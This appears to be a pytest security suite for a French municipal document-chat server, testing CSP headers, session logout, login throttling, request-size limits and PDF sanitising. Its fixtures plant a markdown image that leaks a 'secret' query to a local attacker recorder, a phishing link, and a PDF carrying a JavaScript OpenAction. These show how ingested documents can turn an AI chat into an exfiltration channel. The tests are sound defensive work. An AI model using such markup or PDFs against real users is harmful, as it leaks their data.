"""Hardening of the chat, end to end: a real `collectivia serve` attacked from the outside and from its documents,
with headless Chromium as the victim where a browser is the victim."""

from __future__ import annotations

import json
import threading
import urllib.parse
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from chat_fixtures import browser, context  # noqa: F401 (fixtures)
from chat_helpers import (NAMES, PASSWORDS, RH_SECTIONS, URBA_SECTIONS, ChatServer, ask, base_env, fetch, login,
                          run_cli, session_cookie)
from fixtures import make_md, make_pdf, write_meta

pytestmark = pytest.mark.slow


class Recorder:
    """A server of another origin, on 127.0.0.1, that records every request the victim's browser makes to it."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        recorder = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802
                recorder.requests.append(self.path)
                self.send_response(200)
                self.send_header("content-type", "image/png")
                self.end_headers()

            def log_message(self, *args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()


def pdf_with_javascript(path):
    import pikepdf

    make_pdf(path, title="Instruction du permis de construire", sections=URBA_SECTIONS)
    with pikepdf.open(path, allow_overwriting_input=True) as pdf:
        pdf.Root.OpenAction = pdf.make_indirect(pikepdf.Dictionary(
            S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert('pdf-js-ran');")))
        pdf.save(path)
    return path


@pytest.fixture(scope="module")
def attacker():
    recorder = Recorder()
    yield recorder
    recorder.close()


@pytest.fixture(scope="module")
def server(tmp_path_factory, attacker):
    tmp = tmp_path_factory.mktemp("securite")
    docs = tmp / "docs"
    docs.mkdir()
    trap = (f"Le formulaire de validation des congés ![x]({attacker.url}/a.png?q=secret) se remplit sur la "
            f"[page de validation]({attacker.url}/phish) du portail, ou sur {attacker.url}/nu.")
    write_meta(make_md(docs / "conges.md", title="Congés annuels des agents", sections=RH_SECTIONS),
               id="PROC-CONGES", title="Congés annuels des agents", services=["rh"], doc_type="procedure")
    (docs / "formulaire.txt").write_text(f"Formulaire de validation des congés\n\n{trap}\n", encoding="utf-8")
    write_meta(docs / "formulaire.txt", id="PROC-FORMULAIRE", title="Formulaire de validation des congés",
               services=["rh"], doc_type="procedure")
    write_meta(pdf_with_javascript(docs / "permis.pdf"), id="PROC-PERMIS", title="Instruction du permis de construire",
               services=["urbanisme"], doc_type="procedure")
    users, data = tmp / "users.yaml", tmp / "data"
    env = base_env(data, users)
    env.update({"COLLECTIVIA_CHAT__LOGIN_MAX_FAILURES": "3", "COLLECTIVIA_CHAT__MAX_QUESTION_CHARS": "500",
                "COLLECTIVIA_CHAT__MAX_REQUEST_KB": "64"})
    from chat_ui.accounts import add_user  # the CLI's own `users add` is tested in test_chat_accounts.py

    for user_id, services in (("agent.rh", "rh"), ("agent.urba", "urbanisme")):
        add_user(users, user_id, name=NAMES[user_id], services=[services], roles=["agent"], password=PASSWORDS[user_id])
    result = run_cli(["ingest", str(docs), "--json"], env)
    assert result.returncode == 0, result.stdout + result.stderr
    chat = ChatServer({"data": data, "env": env, "tmp": tmp}).start()
    yield chat
    chat.stop()


def password_login(url: str, user_id: str, password: str | None = None):
    body = urllib.parse.urlencode({"username": user_id, "password": password or PASSWORDS[user_id]}).encode()
    return fetch(url + "/login", method="POST", data=body,
                 headers={"content-type": "application/x-www-form-urlencoded"})


def token_of(headers) -> str:
    """The session token set by a response (its ``access_token`` cookie)."""
    cookie = {k.lower(): v for k, v in headers.items()}.get("set-cookie", "")
    return cookie.split("access_token=", 1)[1].split(";", 1)[0]


def login_token(url: str, user_id: str) -> str:
    status, headers, body = password_login(url, user_id)
    assert status == 200, body
    return token_of(headers)


def test_document_markdown_fetches_nothing_and_links_nowhere(server, context, attacker):
    page = context.new_page()
    login(page, server.url, "agent.rh")
    ask(page, "Où se remplit le formulaire de validation des congés ?")
    page.wait_for_timeout(1000)
    answer = page.locator(".step").last.inner_text() if page.locator(".step").count() else page.inner_text("body")
    assert "page de validation" in page.inner_text("body"), answer
    assert attacker.requests == [], f"le navigateur a contacté une autre origine : {attacker.requests}"
    links = page.eval_on_selector_all("a[href]", "els => els.map(e => e.href)")
    assert not [h for h in links if h.startswith(attacker.url)], links
    images = page.eval_on_selector_all("img[src]", "els => els.map(e => e.src)")
    assert not [s for s in images if s.startswith(attacker.url)], images


def test_every_page_has_a_strict_policy_and_the_chat_still_works(server, context):
    status, headers, _ = fetch(server.url + "/")
    headers = {k.lower(): v for k, v in headers.items()}
    assert status == 200
    policy = headers["content-security-policy"]
    assert "default-src 'self'" in policy and "frame-ancestors 'none'" in policy and "http" not in policy
    assert headers["x-frame-options"] == "DENY" and headers["x-content-type-options"] == "nosniff"
    assert headers["referrer-policy"] == "same-origin"
    assert "strict-transport-security" not in headers  # plain HTTP here
    for path in ("/login", "/user", "/health"):
        assert "content-security-policy" in {k.lower() for k in fetch(server.url + path)[1]}, path
    # Behind an HTTPS proxy: Secure cookies and HSTS.
    status, headers, _ = fetch(server.url + "/login", method="POST", headers={
        "content-type": "application/x-www-form-urlencoded", "x-forwarded-proto": "https"},
        data=urllib.parse.urlencode({"username": "agent.rh", "password": PASSWORDS["agent.rh"]}).encode())
    assert status == 200 and "Secure" in headers["set-cookie"] and "strict-transport-security" in headers
    # The real chat runs under the policy: login, streamed answer, source cards (custom elements), no violation.
    page = context.new_page()
    violations: list[str] = []
    page.on("console", lambda m: violations.append(m.text) if "Content Security Policy" in m.text else None)
    login(page, server.url, "agent.rh")
    page.wait_for_timeout(1000)
    assert violations == []
    ask(page, "Combien de jours avant le départ faut-il déposer une demande de congé annuel ?")
    page.locator("[data-testid=source-card]").first.wait_for()
    assert violations == []


def test_javascript_of_a_pdf_is_removed_before_it_is_served(server, context):
    import io

    import pikepdf

    page = context.new_page()
    login(page, server.url, "agent.urba")
    dialogs: list[str] = []
    context.on("page", lambda p: p.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss())))
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    status, headers, body = fetch(server.url + "/documents/PROC-PERMIS", cookie=session_cookie(context))
    assert status == 200 and body.startswith(b"%PDF")
    with pikepdf.open(io.BytesIO(body)) as pdf:
        assert "/OpenAction" not in pdf.Root and b"app.alert" not in body
    assert "content-security-policy" in {k.lower() for k in headers}
    viewer = context.new_page()
    viewer.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    try:
        viewer.goto(server.url + "/documents/PROC-PERMIS#page=2")
    except Exception:  # headless Chromium may download the PDF instead of showing it
        pass
    viewer.wait_for_timeout(2000)
    assert dialogs == []


def test_thread_sharing_is_refused_whatever_the_session(server):
    token = login_token(server.url, "agent.rh")
    auth = {"authorization": "Bearer " + token, "content-type": "application/json"}
    status, _, _ = fetch(server.url + "/project/thread/share", method="PUT", headers=auth,
                         data=json.dumps({"threadId": "x", "isShared": True}).encode())
    assert status in (403, 404)
    other = {"authorization": "Bearer " + login_token(server.url, "agent.urba")}
    assert fetch(server.url + "/project/share/x", headers=other)[0] in (403, 404)


def test_logout_ends_the_session_and_renewal_does_not_revive_it(server):
    token = login_token(server.url, "agent.rh")
    bearer = {"authorization": "Bearer " + token}
    assert fetch(server.url + "/user", headers=bearer)[0] == 200
    status, headers, body = fetch(server.url + "/auth/jwt", method="POST", headers=bearer)
    assert status == 200, body
    renewed = token_of(headers)
    assert fetch(server.url + "/logout", method="POST", headers=bearer, data=b"")[0] == 200
    for old in (token, renewed):  # the renewed token belongs to the same session
        assert fetch(server.url + "/user", headers={"authorization": "Bearer " + old})[0] == 401
        assert fetch(server.url + "/auth/jwt", method="POST", headers={"authorization": "Bearer " + old})[0] == 401
        assert fetch(server.url + "/documents/PROC-CONGES", headers={"authorization": "Bearer " + old})[0] == 401
    # A new login opens a new session.
    assert fetch(server.url + "/user", headers={"authorization": "Bearer " + login_token(server.url, "agent.rh")})[0] == 200


def test_failed_logins_are_throttled_even_for_the_right_password(server):
    for _ in range(3):
        assert password_login(server.url, "agent.urba", "mauvais-mot-de-passe")[0] == 401
    status, headers, body = password_login(server.url, "agent.urba")
    detail = json.loads(body)["detail"]
    assert status == 429 and "Trop de tentatives de connexion. Réessayez dans 15 minutes." in detail, body
    assert int({k.lower(): v for k, v in headers.items()}["retry-after"]) > 0
    assert password_login(server.url, "agent.rh")[0] == 200  # another account is not locked


def test_bodies_are_refused_before_being_read(server):
    token = login_token(server.url, "agent.rh")
    # Declared too large: refused at once, nothing sent.
    status, _, body = fetch(server.url + "/project/action", method="POST", data=b"{}", headers={
        "authorization": "Bearer " + token, "content-type": "application/json", "content-length": "300000000"})
    assert status == 413 and "Requête trop volumineuse" in json.loads(body)["detail"]
    # An upload beyond what the file picker accepts (the file limit, 0.3 MB here, rounded up to 1 MB) is refused
    # from its declared size, and audited; a file a little over the limit reaches the chat, which refuses it in
    # French in the conversation (test_chat_browser.py).
    status, _, body = fetch(server.url + "/project/file?session_id=x", method="POST", data=b"x" * 2_000_000, headers={
        "authorization": "Bearer " + token, "content-type": "multipart/form-data; boundary=b"})
    assert status == 413 and json.loads(body)["detail"] == "Fichier trop volumineux (2 Mo) : 0,3 Mo au plus."
    audit = [json.loads(line) for line in (server.data / "audit" / "documents.jsonl").read_text().splitlines()]
    assert [(e["action"], e["outcome"], e["user"], e["size"]) for e in audit][-1] == (
        "upload", "refused", "agent.rh", 2_000_000)
    assert audit[-1]["detail"].startswith("Fichier trop volumineux")


def test_a_too_long_question_gets_a_french_answer(server, context):
    page = context.new_page()
    login(page, server.url, "agent.rh")
    page.fill("#chat-input", "congé " * 199 + "congé ?")
    page.keyboard.press("Enter")
    page.wait_for_selector("text=Question trop longue", timeout=30_000)
    assert "1\u202f201 caractères (500 au plus)" in page.inner_text("body")
    page.wait_for_selector("#chat-input:not([disabled])")  # the socket is still there: the next question works
    ask(page, "Combien de jours avant le départ faut-il déposer une demande de congé annuel ?")


def test_refused_feedback_is_403_not_500(server):
    token = login_token(server.url, "agent.rh")
    status, _, body = fetch(server.url + "/feedback", method="PUT", headers={
        "authorization": "Bearer " + token, "content-type": "application/json"},
        data=json.dumps({"sessionId": "x", "feedback": {"forId": "etape-d-un-autre", "value": 1}}).encode())
    assert status in (403, 404), (status, body)
